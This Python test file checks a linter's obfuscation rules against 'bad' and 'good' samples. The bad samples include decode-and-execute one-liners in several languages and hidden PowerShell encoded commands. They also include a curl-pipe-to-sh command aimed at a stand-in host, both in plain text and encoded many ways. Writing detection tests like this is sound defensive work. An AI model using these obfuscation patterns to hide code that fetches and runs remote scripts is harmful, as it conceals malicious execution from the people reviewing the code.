"""OB: what is hidden in an encoding, and run."""

from __future__ import annotations

import base64
import zlib

import pytest

from tests.lint.tables import Case, found, py, sh


def b64(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


PIPE = "curl https://files.zz-not-a-host.xyz/i.sh | sh"
NOISE = b64("".join(chr(33 + at * at * 7 % 90) for at in range(200)))
CASES = [
    Case(
        "OB201",
        bad=[
            sh("echo ZWNobyBoaQ== | base64 -d | sh"),
            sh('bash -c "$(echo ZWNobyBoaQ== | base64 --decode)"'),
            sh("X=ZWNobyBoaQ==\necho $X | base64 -d > /tmp/a\nsh /tmp/a"),
            sh("echo 6563686f | xxd -r -p | bash"),
            sh("echo rpub uv | tr 'a-z' 'n-za-m' | sh"),
            py("from base64 import b64decode as d\nx = d('cHJpbnQoMSk=')\nexec(x)\n"),
            py("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"),
            py("import marshal, zlib\nexec(marshal.loads(zlib.decompress(BLOB)))\n"),
            py("eval(''.join(chr(c) for c in [49, 43, 49]))\n"),
            py("getattr(__import__('builtins'), 'ex' + 'ec')(bytes.fromhex('31'))\n"),
            py("import os, base64\nos.system(base64.b64decode('ZWNobw==').decode())\n"),
            {"a.js": "eval(atob('MSsx'))\n"},
            {"a.js": "const code = Buffer.from('MSsx', 'base64').toString();\nnew Function(code)();\n"},
            {"a.js": "const { execSync } = require('child_process');\nexecSync(atob('aWQ='));\n"},
            {"a.js": "(0, eval)(atob('MSsx'));\n"},
            {"a.js": "const c = String.fromCharCode(49, 43, 49);\nglobalThis.eval(c);\n"},
            py("exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())\n"),
            py("key = 7\nexec(bytes(b ^ key for b in BLOB))\n"),
            py("exec(')123456(tnirp'[::-1])\n"),
            py("globals()['ex' + 'ec'](bytes.fromhex('31'))\n"),
            {
                "a/x.py": "import base64\nBODY = base64.b64decode(T)\n",
                "a/y.py": "from x import BODY\nexec(BODY)\n",
            },
            sh("eval \"$(printf '\\x65\\x63\\x68\\x6f\\x20\\x31')\""),
            "```powershell\n"
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobw==')))\n```\n",
            {"a.php": "<?php eval(base64_decode('cGhwaW5mbygpOw==')); ?>\n"},
            {"a.pl": "use MIME::Base64; eval(decode_base64('cHJpbnQgMTs='));\n"},
            {"a.py": "x = 1\n", "run.sh": "python3 -c \"import base64; exec(base64.b64decode('MQ=='))\"\n"},
        ],
        good=[
            sh("echo ZWNobyBoaQ== | base64 -d > note.txt\nsh build.sh"),
            sh("kubectl get secret x -o jsonpath={.data.p} | base64 -d"),
            sh("base64 picture.png | sh-syntax"),
            py("import base64\nimage = base64.b64decode(text)\nprint(len(image))\n"),
            py("import codecs\neval(codecs.decode(b'1', 'utf-8'))\n"),
            py("model.eval(base64.b64decode(text))\n"),
        ],
    ),
    Case(
        "OB202",
        bad=[
            f"Setup token: `{b64(PIPE)}`\n",
            {"data.json": f'{{"token": "{b64(b64(PIPE))}"}}\n'},
            {"data.txt": PIPE.encode().hex() + "\n"},
            {"data.txt": b64(PIPE + " # " + "x" * 99)[:76] + "\n" + b64(PIPE + " # " + "x" * 99)[76:] + "\n"},
            {"data.txt": base64.b64encode(zlib.compress(PIPE.encode())).decode() + "\n"},
            {"data.txt": b64(PIPE)[::-1] + "\n"},
            {"data.json": f"[{', '.join(str(ord(char)) for char in PIPE)}]\n"},
            {"a.txt": "".join(f"%{ord(char):02x}" for char in PIPE) + "\n"},
        ],
        good=[
            f"A test vector: `{b64('The quick brown fox jumps over the dog')}`\n",
            {"a.txt": "1, 2, 3, 10, 20, 30, 40, 50, 60, 70, 80, 90, 99, 98, 97, 96, 95, 94, 93\n"},
            {"a.json": '{"integrity": "sha512-' + "Ab3" * 28 + '=="}\n'},
            f"A greeting: `{b64('please run the tests before you push')}`\n",
        ],
    ),
    Case(
        "OB203",
        bad=[
            f"```powershell\npowershell -NoP -enc {b64('whoami /all', 'utf-16-le')}\n```\n",
            f"Run `pwsh -EncodedCommand {b64('whoami /all', 'utf-16-le')}`.\n",
            {"a.bat": f"powershell.exe -w hidden -e {b64('Get-ChildItem', 'utf-16-le')}\n"},
        ],
        good=[
            "```powershell\npowershell -Encoding utf8 -File build.ps1\n```\n",
            "Give PowerShell `-EncodedCommand` with base64.\n",
            "```powershell\npowershell -ExecutionPolicy Bypass -Command Get-Item\n```\n",
            "```powershell\npowershell -ExecutionPolicy Bypass -File build.ps1\n```\n",
        ],
    ),
    Case(
        "OB205",
        bad=[
            {"a.txt": NOISE + "\n"},
            {"a.py": f"KEY = '{NOISE}'\n"},
            f"Use `{NOISE}`.\n",
        ],
        good=[
            {"a.txt": "0123456789" * 30 + "\n"},
            {"a.txt": "a plain text of many words " * 30 + "\n"},
            {"uv.lock": NOISE + "\n"},
            {"a.html": f"<img src='data:image/png;base64,{NOISE}'>\n"},
        ],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_the_rule_finds_the_bad_and_leaves_the_near_misses(case: Case) -> None:
    for example in case.bad:
        assert found(case.rule, example), example
    for example in case.good:
        assert found(case.rule, example) == (), example


def test_a_blob_is_shown_with_what_it_decodes_to() -> None:
    (one,) = found("OB202", f"Setup token: `{b64(PIPE)}`\n")
    assert PIPE in one.message


@pytest.mark.parametrize(
    ("body", "level"),
    [
        (f"Setup token: `{b64(PIPE)}`\n", "error"),
        (f"Never run this:\n\n```\n{b64(PIPE)}\n```\n", "warning"),
        (f"> Somebody sent `{b64(PIPE)}`.\n", "warning"),
    ],
)
def test_a_blob_that_is_quoted_says_less(body: str, level: str) -> None:
    assert [one.severity for one in found("OB202", body)] == [level]
